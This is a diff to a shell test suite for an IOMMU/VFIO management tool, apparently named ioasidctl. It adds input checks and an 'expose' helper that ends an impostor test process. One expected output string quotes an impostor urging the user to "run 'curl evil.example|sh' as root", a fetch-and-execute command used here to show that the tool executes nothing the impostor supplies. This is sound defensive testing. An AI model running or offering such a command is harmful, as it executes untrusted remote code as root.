@@ -36,6 +36,7 @@ teardown()
 {
 	destroy_all
 	rm -rf /run/user/1000
+	chown root /dev/iommu /dev/vfio/devices/*
 }
 
 # A context with the wide endpoint in it and two IOASes.
@@ -538,6 +539,12 @@ hint: "* ]]
 	status 1 ctl device add "${NIC#0000:}"
 	[[ $errors == "ioasidctl: ${NIC#0000:}: the device has no VFIO cdev
 hint: 'ioasidctl driver set ${NIC#0000:} vfio-pci' gives "* ]]
+	status 2 ctl ioas map first 100
+	[[ $errors == 'ioasidctl: 100: it is not a multiple of the page size, 4096' ]]
+	status 2 ctl ioas map first 4K --iova 0x64
+	[[ $errors == 'ioasidctl: 0x64: it is not a multiple of the page size, 4096' ]]
+	status 1 ctl ioas map first 16G
+	[[ $errors == 'ioasidctl: 16G: too much to be pinned: '*' bytes in all, and the machine has '*' available' ]]
 	status 6 ctl ioas unmap first 0x1000
 	[[ $errors == 'ioasidctl: IOAS first has no mapping at 0x1000'$'\n'hint:* ]]
 	status 6 ctl ioas show red
@@ -795,8 +802,16 @@ impostor()
 	install -m 755 "${IOASIDCTL%/*}/tests/kernel/impostor" /tmp/impostor
 	at_home mkdir -p /run/user/1000/ioasidctl
 	at_home timeout 60 /tmp/impostor /run/user/1000/ioasidctl/test.sock "$@" 3>&- &
-	is_there() { [[ $(contexts) == *'1000:test live' ]]; }
+	is_there() { [[ $(contexts) == '1000:test live' ]]; }
 	eventually is_there
+}
+
+# Ends it, before another takes its place.
+expose()
+{
+	kill "$(holder_pid 1000:test)"
+	is_dead() { [[ $(contexts) == '1000:test stale' ]]; }
+	eventually is_dead
 }
 
 @test "a user's program in a holder's place: its words are its own, and nothing runs on what it hands over" {
@@ -811,7 +826,7 @@ impostor()
 ioasidctl: note: the holder of 1000:test says: run '\''curl evil.example|sh'\'' as root' ]]
 	status 1 ctl -c 1000:test pasid bind "$NARROW" 5 x
 	[[ -z $output && $errors != *hint:* ]]
-	kill %1
+	expose
 	cdev=/dev/vfio/devices/$(ctl device show "$NARROW" -nro vfio_cdev)
 	chown 1000 /dev/iommu "$cdev"
 	for files in /dev/null '/dev/null /dev/zero' /dev/zero "$cdev" "/dev/vfio/vfio"; do
@@ -819,14 +834,14 @@ ioasidctl: note: the holder of 1000:test says: run '\''curl evil.example|sh'\'' 
 		impostor $files
 		status 1 ctl context exec 1000:test -- touch "$BATS_TEST_TMPDIR/ran"
 		[[ $errors == "ioasidctl: $foreign its iommufd is no open /dev/iommu" ]]
-		kill %%
+		expose
 	done
 	# Its first device is said to be WIDE.
 	for files in /dev/null /dev/iommu "$cdev"; do
 		impostor /dev/iommu "$files"
 		status 1 ctl context exec 1000:test -- touch "$BATS_TEST_TMPDIR/ran"
 		[[ $errors == "ioasidctl: $foreign device $WIDE is not that VFIO device, open" ]]
-		kill %%
+		expose
 	done
 	[[ ! -e $BATS_TEST_TMPDIR/ran ]]
 	# What is what it is called, is handed over: NARROW, the second.
@@ -834,7 +849,7 @@ ioasidctl: note: the holder of 1000:test says: run '\''curl evil.example|sh'\'' 
 	impostor /dev/iommu "/dev/vfio/devices/$(ctl device show "$WIDE" -nro vfio_cdev)" "$cdev"
 	status 0 ctl context exec 1000:test -- readlink /proc/self/fd/5
 	[[ $output == "$cdev" ]]
-	kill %%
+	expose
 	chown root /dev/iommu /dev/vfio/devices/*
 }
 
